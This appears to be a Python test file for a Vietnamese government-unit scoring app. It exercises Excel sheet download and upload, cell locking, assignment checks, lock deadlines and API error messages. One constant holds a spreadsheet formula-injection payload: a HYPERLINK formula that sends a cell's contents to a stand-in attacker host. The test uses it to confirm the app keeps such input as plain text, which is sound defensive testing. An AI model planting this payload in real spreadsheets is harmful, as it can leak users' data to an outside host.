"""A unit's sheet round-tripped through Excel on a real database: download (the person's rows,
locked cells), fill in, upload through the same edit gate as a form — a wrong cell, a criterion
not assigned to the uploader, a formula injection attempt, an upload after the lock; the
council's appraisal the same way; and the API's 422 naming sheet, row and column."""

from __future__ import annotations

from datetime import timedelta
from io import BytesIO

import pytest
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import select

from actions import sheet_xlsx
from actions.common import UnitRef
from contracts.messages import AssignCommand, SubmitCommand, TransitionArgs
from core.db import session_scope, utcnow
from models.tables import AuditLog, CycleUnit, Entry, Unit, UnitState, User
from services.accounts import Principal, load_principal
from services.sessions import start_session
from services.transitions import apply_transition
from tests.api_support import SECRET, client, make_app, password_hash
from tests.histories.scenario import Seeded, dinh_hoa, seed_cycle
from tests.web.test_web_pages import login

PT = "phuong-tien"
LAN = "phuong-tien-lan"  # assigned NỘI DUNG I (areas I–V)
DUNG = "phuong-tien-dung"  # assigned NỘI DUNG II and III
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
TEXT_COL = 17  # Q: Giải trình / Ý kiến
RATE, NUM, DEN = 7, 8, 9  # G, H, I
LEVEL, ANSWERS = 6, 14  # F, N


@pytest.fixture(scope="module")
def seeded(engine: Engine) -> Seeded:
    now = utcnow()
    s = seed_cycle(
        engine,
        year=2026,
        opens_at=now - timedelta(days=2),
        cutoff=now - timedelta(days=1),
        submission=now + timedelta(days=5),
        hard_lock=now + timedelta(days=8),
        appraisal=now + timedelta(days=20),
        results=now + timedelta(days=30),
        cycle_id="2026-xlsx",
    )
    with session_scope(engine) as session:
        apply_transition(
            session,
            TransitionArgs(
                cycle_id=s.cycle_id,
                unit_code=PT,
                request_key="xlsx-assign",
                at=now - timedelta(days=1),
                actor=s.office[PT],
                command=AssignCommand(actor=s.office[PT], assignments=tuple(s.specs[PT])),
            ),
        )
    return s


def _who(engine: Engine, username: str) -> Principal:
    with session_scope(engine) as session:
        user = session.exec(select(User).where(User.username == username)).one()
        return load_principal(session, user)


def _ref(engine: Engine, seeded: Seeded) -> UnitRef:
    with session_scope(engine) as session:
        unit = session.exec(select(Unit).where(Unit.code == PT)).one()
        assert unit.id is not None
        return UnitRef(cycle_id=seeded.cycle_id, unit_id=unit.id, unit_code=PT)


def _download(engine, seeded, username: str, mode: str | None = None):
    with session_scope(engine) as session:
        file = sheet_xlsx.download(
            session, principal=_who(engine, username), unit=_ref(engine, seeded), mode=mode
        )
    return load_workbook(BytesIO(file.content))


def _upload(engine, seeded, username: str, wb, now=None):
    out = BytesIO()
    wb.save(out)
    with session_scope(engine) as session:
        return sheet_xlsx.upload(
            session,
            principal=_who(engine, username),
            unit=_ref(engine, seeded),
            data=out.getvalue(),
            now=now,
        )


def _row(ws, code: str) -> int:
    for r in range(4, ws.max_row + 1):
        if ws.cell(row=r, column=1).value == code:
            return r
    raise AssertionError(f"no row for {code}")


def _entry(engine, seeded, code: str) -> Entry | None:
    with session_scope(engine) as session:
        unit_id = session.exec(select(Unit.id).where(Unit.code == PT)).one()
        return session.exec(
            select(Entry).where(
                Entry.cycle_id == seeded.cycle_id,
                Entry.unit_id == unit_id,
                Entry.criterion_code == code,
            )
        ).first()


def _section_leaves(section: str) -> list[str]:
    fw = dinh_hoa()
    out: list[str] = []

    def visit(node) -> None:
        if node.is_leaf and (node.rule is None or node.rule.kind != "derived"):
            out.append(node.code)
        for child in node.children:
            visit(child)

    visit(fw.node(section))
    return out


def test_staff_download_has_their_rows_and_only_their_cells_unlocked(engine, seeded) -> None:
    wb = _download(engine, seeded, LAN)
    ws = wb["Tự chấm điểm"]
    codes = [ws.cell(row=r, column=1).value for r in range(4, ws.max_row + 1)]
    assert codes == _section_leaves("NỘI DUNG I")
    assert ws.protection.sheet is True
    r = _row(ws, "2.4.2")
    assert not ws.cell(row=r, column=RATE).protection.locked  # a rate rule: rate is open
    assert ws.cell(row=r, column=LEVEL).protection.locked  # not an input of this rule
    assert not ws.cell(row=r, column=TEXT_COL).protection.locked
    assert ws.cell(row=r, column=2).protection.locked and ws.cell(row=r, column=3).value == 1
    assert wb["_meta"].sheet_state == "hidden"
    office = _download(engine, seeded, seeded.office[PT])["Tự chấm điểm"]
    assert office.max_row - 3 == len(_section_leaves("NỘI DUNG I")) + len(
        _section_leaves("NỘI DUNG II")
    ) + len(_section_leaves("NỘI DUNG III"))


def test_round_trip_through_the_gate_and_a_formula_stays_text(engine, seeded) -> None:
    wb = _download(engine, seeded, LAN)
    ws = wb["Tự chấm điểm"]
    r = _row(ws, "2.4.2")
    ws.cell(row=r, column=NUM, value=45)
    ws.cell(row=r, column=DEN, value=50)
    ws.cell(row=r, column=TEXT_COL, value=INJECTION)  # openpyxl stores it as a formula cell
    assert ws.cell(row=r, column=TEXT_COL).data_type == "f"
    ws.cell(row=_row(ws, "1.1"), column=ANSWERS, value="5=3; 4=1")
    ws.cell(row=_row(ws, "1.1"), column=TEXT_COL, value="Phiếu khảo sát ngày 10/11.")
    result = _upload(engine, seeded, LAN, wb, now=utcnow())
    assert result.changed == ["1.1", "2.4.2"]
    entry = _entry(engine, seeded, "2.4.2")
    assert entry is not None and entry.explanation == INJECTION  # the literal text
    assert entry.inputs == {"numerator": 45, "denominator": 50} and entry.updated_by == LAN
    assert entry.self_score is not None
    with session_scope(engine) as session:
        rows = session.exec(
            select(AuditLog).where(AuditLog.cycle_id == seeded.cycle_id, AuditLog.entity == "entry")
        ).all()
        assert sorted(a.entity_key for a in rows) == ["1.1", "2.4.2"]
    again = _download(engine, seeded, LAN)
    ws = again["Tự chấm điểm"]
    cell = ws.cell(row=_row(ws, "2.4.2"), column=TEXT_COL)
    assert cell.value == INJECTION and cell.data_type == "s"  # written back as text, not run
    assert _upload(engine, seeded, LAN, again, now=utcnow()).changed == []  # nothing changed


def test_a_wrong_cell_refuses_the_whole_file(engine, seeded) -> None:
    wb = _download(engine, seeded, LAN)
    ws = wb["Tự chấm điểm"]
    ws.cell(row=_row(ws, "1.2"), column=ANSWERS, value="5=2")  # valid on its own
    bad = _row(ws, "2.4.2")
    ws.cell(row=bad, column=RATE, value="chín mươi")
    ws.cell(row=bad, column=NUM, value="=1+1")
    with pytest.raises(sheet_xlsx.SheetUploadInvalid) as exc:
        _upload(engine, seeded, LAN, wb, now=utcnow())
    messages = [e.message() for e in exc.value.errors]
    assert f"Trang “Tự chấm điểm”, dòng {bad}, cột G (Tỷ lệ (%)): “chín mươi” không phải là số" in (
        messages
    )
    assert any(f"dòng {bad}, cột H" in m and "công thức" in m for m in messages)
    assert _entry(engine, seeded, "1.2") is None  # the valid row was not written either


def test_a_criterion_not_assigned_to_the_uploader_is_refused(engine, seeded) -> None:
    other = _section_leaves("NỘI DUNG II")[0]
    wb = _download(engine, seeded, seeded.office[PT])  # the whole sheet, uploaded by Lan
    ws = wb["Tự chấm điểm"]
    ws.cell(row=_row(ws, other), column=TEXT_COL, value="Sửa hộ tiêu chí của người khác")
    with pytest.raises(sheet_xlsx.SheetUploadInvalid) as exc:
        _upload(engine, seeded, LAN, wb, now=utcnow())
    (error,) = exc.value.errors
    assert error.row == _row(ws, other) and "không được phân công cho bạn" in error.reason
    assert _entry(engine, seeded, other) is None


def test_an_upload_after_the_lock_writes_nothing(engine, seeded) -> None:
    wb = _download(engine, seeded, LAN)
    ws = wb["Tự chấm điểm"]
    ws.cell(row=_row(ws, "1.3"), column=ANSWERS, value="5=4")
    after_lock = utcnow() + timedelta(days=9)  # the hard lock is 8 days from the seed
    with pytest.raises(sheet_xlsx.SheetUploadInvalid) as exc:
        _upload(engine, seeded, LAN, wb, now=after_lock)
    assert "khóa" in exc.value.errors[0].reason
    assert _entry(engine, seeded, "1.3") is None


def test_api_upload_names_sheet_row_and_column(engine, seeded, tmp_path) -> None:
    app = make_app(engine, tmp_path)
    with session_scope(engine) as session:
        user = session.exec(select(User).where(User.username == LAN)).one()
        token = start_session(session, user, secret_key=SECRET, minutes=30, kind="api")[0]
    ref = _ref(engine, seeded)
    url = f"/api/cycles/{seeded.cycle_id}/units/{ref.unit_id}/sheet.xlsx"
    http = client(app)
    auth = {"Authorization": f"Bearer {token}"}
    got = http.get(url, headers=auth)
    assert got.status_code == 200
    wb = load_workbook(BytesIO(got.content))
    ws = wb["Tự chấm điểm"]
    bad = _row(ws, "2.4.2")
    ws.cell(row=bad, column=RATE, value="abc")
    out = BytesIO()
    wb.save(out)
    files = {"file": ("phieu.xlsx", out.getvalue(), "application/octet-stream")}
    resp = http.post(url, headers=auth, files=files)
    assert resp.status_code == 422
    body = resp.json()
    assert body["errors"][0]["field"] == f"Tự chấm điểm!G{bad}"
    assert "không phải là số" in body["errors"][0]["reason"]
    ws.cell(row=bad, column=RATE).value = None
    ws.cell(row=_row(ws, "1.4"), column=ANSWERS, value="5=1")
    out = BytesIO()
    wb.save(out)
    files = {"file": ("phieu.xlsx", out.getvalue(), "application/octet-stream")}
    ok = http.post(url, headers=auth, files=files)
    assert ok.status_code == 200, ok.text
    assert ok.json() == {"mode": "self", "changed": ["1.4"]}


def test_the_unit_page_round_trip_for_staff(engine, seeded, tmp_path) -> None:
    with session_scope(engine) as session:
        user = session.exec(select(User).where(User.username == LAN)).one()
        user.password_hash = password_hash()
        session.add(user)
    app = make_app(engine, tmp_path)
    page_url = f"/cycles/{seeded.cycle_id}/units/{PT}"
    http, csrf = login(app, LAN, next_url=page_url)
    page = http.get(page_url)
    assert f'action="{page_url}/sheet.xlsx"' in page.text and "Nhập bằng Excel" in page.text
    wb = load_workbook(BytesIO(http.get(f"{page_url}/sheet.xlsx").content))
    ws = wb["Tự chấm điểm"]
    ws.cell(row=_row(ws, "1.5"), column=ANSWERS, value="5=2")
    bad = BytesIO()
    ws.cell(row=_row(ws, "2.4.2"), column=DEN, value=-3)
    wb.save(bad)
    refused = http.post(
        f"{page_url}/sheet.xlsx",
        data={"csrf_token": csrf},
        files={"file": ("phieu.xlsx", bad.getvalue(), "application/octet-stream")},
    )
    assert refused.status_code == 422
    assert "cột I (Tổng số (mẫu số))" in refused.text
    assert _entry(engine, seeded, "1.5") is None
    ws.cell(row=_row(ws, "2.4.2"), column=DEN, value=50)
    good = BytesIO()
    wb.save(good)
    sent = http.post(
        f"{page_url}/sheet.xlsx",
        data={"csrf_token": csrf},
        files={"file": ("phieu.xlsx", good.getvalue(), "application/octet-stream")},
        follow_redirects=False,
    )
    assert sent.status_code == 303 and sent.headers["location"] == page_url
    assert "Đã cập nhật từ tệp Excel 1 tiêu chí: 1.5." in http.get(page_url).text
    entry = _entry(engine, seeded, "1.5")
    assert entry is not None and entry.updated_by == LAN


def test_council_round_trip_of_appraisal_scores(engine, seeded) -> None:
    with session_scope(engine) as session:
        apply_transition(
            session,
            TransitionArgs(
                cycle_id=seeded.cycle_id,
                unit_code=PT,
                request_key="xlsx-submit",
                at=utcnow(),
                actor=seeded.office[PT],
                command=SubmitCommand(actor=seeded.office[PT]),
            ),
        )
        unit_id = session.exec(select(Unit.id).where(Unit.code == PT)).one()
        cu = session.exec(
            select(CycleUnit).where(
                CycleUnit.cycle_id == seeded.cycle_id, CycleUnit.unit_id == unit_id
            )
        ).one()
        cu.state = UnitState.appraising
        session.add(cu)
    wb = _download(engine, seeded, seeded.council)
    ws = wb["Thẩm định"]
    assert not ws.cell(row=_row(ws, "1.1"), column=ANSWERS).protection.locked  # Phòng Nội vụ
    assert ws.cell(row=_row(ws, "2.1.1"), column=LEVEL).protection.locked  # Thanh tra huyện
    ws.cell(row=_row(ws, "1.1"), column=ANSWERS, value="3=3")
    ws.cell(row=_row(ws, "1.1"), column=TEXT_COL, value="Theo 03 phiếu khảo sát thực tế.")
    result = _upload(engine, seeded, seeded.council, wb, now=utcnow())
    assert result.changed == ["1.1"] and result.mode == "appraisal"
    entry = _entry(engine, seeded, "1.1")
    assert entry is not None and str(entry.appraised_score) == "2.400"
    assert entry.appraisal_comment == "Theo 03 phiếu khảo sát thực tế."
    ws.cell(row=_row(ws, "2.1.1"), column=TEXT_COL, value="Không thuộc cơ quan này")
    with pytest.raises(sheet_xlsx.SheetUploadInvalid) as exc:
        _upload(engine, seeded, seeded.council, wb, now=utcnow())
    assert "không thuộc cơ quan thẩm định của bạn" in exc.value.errors[0].reason
